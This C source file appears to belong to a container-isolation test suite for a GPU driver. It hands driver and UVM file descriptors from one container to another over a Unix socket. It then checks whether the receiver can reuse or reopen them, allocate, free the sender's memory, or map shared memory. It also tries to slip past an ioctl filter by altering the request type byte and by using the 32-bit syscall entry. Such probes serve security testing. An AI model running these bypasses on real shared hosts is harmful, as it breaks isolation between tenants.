/* Open files of the driver that a container passes to another one. */
#include "attack.h"

#include <sys/un.h>

#define MAPPED ((void *) 0x7f2000000000)

struct known {
    uint32_t client, device, piece, group;
};

static struct sockaddr_un address_of (int argc, char **argv)
{
    struct sockaddr_un address = { .sun_family = AF_UNIX };

    snprintf (address.sun_path, sizeof (address.sun_path), "%s", argc > 0 ? argv[0] : "");
    return address;
}

/* give SOCKET: files of the control node and of UVM, with a client, memory and a group; a line: whether all is as it was. */
void attack_give (int argc, char **argv)
{
    struct sockaddr_un address = address_of (argc, argv);
    int server = socket (AF_UNIX, SOCK_STREAM, 0), peer;
    struct bed bed = bed_open ();
    struct uvm uvm = uvm_begin (&bed, false);
    struct known known = { .client = bed.client, .device = bed.device, .group = bed.next++ };
    uint32_t group[8] = { 0, 0, 0, 1 };

    say ("group", bed_alloc (&bed, bed.device, known.group, 0xa06c, group));
    say ("memory", bed_memory (&bed, &known.piece, GIB));
    if (bind (server, (struct sockaddr *) &address, sizeof (address)) != 0 || listen (server, 1) != 0)
        exit (4);
    say ("ready", 1);
    peer = accept (server, NULL, NULL);
    if (send_descriptor (peer, bed.file) != 0 || send_descriptor (peer, uvm.file) != 0 ||
        write (peer, &known, sizeof (known)) != sizeof (known))
        exit (4);
    hold ();
    say ("freed", bed_free (&bed, known.piece));
    hold ();
}

static uint32_t client_by (int file)
{
    struct alloc root = { .status = 0xffff };

    return ioctl (file, REQUEST (0x2b, sizeof (root)), &root) < 0 ? 0x10000u + (uint32_t) errno : root.status;
}

/* What the files of the container that gives at SOCKET are good for in this one; a line each. */
static int use (int argc, char **argv)
{
    struct sockaddr_un address = address_of (argc, argv);
    struct bed got = { .next = 0x5e000000 };
    int peer = socket (AF_UNIX, SOCK_STREAM, 0), uvm;
    static uint32_t channel[92];
    char path[64];
    struct known known;
    uint32_t piece;

    if (connect (peer, (struct sockaddr *) &address, sizeof (address)) != 0)
        exit (3);
    got.file = receive_descriptor (peer);
    uvm = receive_descriptor (peer);
    if (read (peer, &known, sizeof (known)) != sizeof (known))
        exit (3);
    got.client = known.client;
    got.device = known.device;
    snprintf (path, sizeof (path), "/proc/self/fd/%d", got.file);
    say ("client", client_by (got.file));
    say ("reopened", client_by (open (path, O_RDWR)));
    say ("memory", bed_memory (&got, &piece, GIB));
    say ("channel", bed_alloc (&got, known.group, got.next++, 0xc86f, channel));
    say ("freed", bed_free (&got, known.piece));
    say ("mapped", mmap (MAPPED, MIB, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED, uvm, (off_t) (uintptr_t) MAPPED) == MAP_FAILED
                       ? (uint64_t) errno
                       : 0);
    return got.file;
}

/* take SOCKET: by a container with a share, and then its own. */
void attack_take (int argc, char **argv)
{
    struct bed own = bed_open ();
    uint32_t piece;

    use (argc, argv);
    say ("own", bed_memory (&own, &piece, GIB));
    hold ();
}

/* -errno of a call of ioctl by some entry, as the kernel answers it. */
static uint64_t answer_of (long result) { return result == -1 ? (uint64_t) errno : (uint64_t) -result; }

/* receive SOCKET: by a container without a GPU, and by the machine's other entries. */
void attack_receive (int argc, char **argv)
{
    uint64_t question[4] = { 0 };
    struct alloc *low = mmap ((void *) 0x10000000, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    struct bed own = { .device = 0x5c000001, .subdevice = 0x5c000002, .next = 0x5d000000 };
    int file = open ("/dev/null", O_RDWR);
    uint32_t status;

    own.file = use (argc, argv);
    status = bed_begin (&own);
    say ("own", status);
    say ("pieces", status ? 0 : bed_fill (&own));
    /* Whatever the file is: the filter looks at the request alone. */
    say ("type", answer_of (ioctl (file, (REQUEST (0x2b, sizeof (*low)) & ~0xff00u) | 'X' << 8, low)));
    say ("wrapped", answer_of (ioctl (file, REQUEST (0xd3, 16), question)));
    say ("uvm", answer_of (ioctl (file, 0x30000001, question)));
    say ("uvm-map", answer_of (ioctl (file, 33, question)));
#ifdef __x86_64__
    say ("32-bit", answer_of (entry_32 (54, file, (long) REQUEST (0x2b, sizeof (*low)), (long) low)));
#endif
    say ("plain", answer_of (ioctl (file, 0x5401, question)));
    hold ();
}
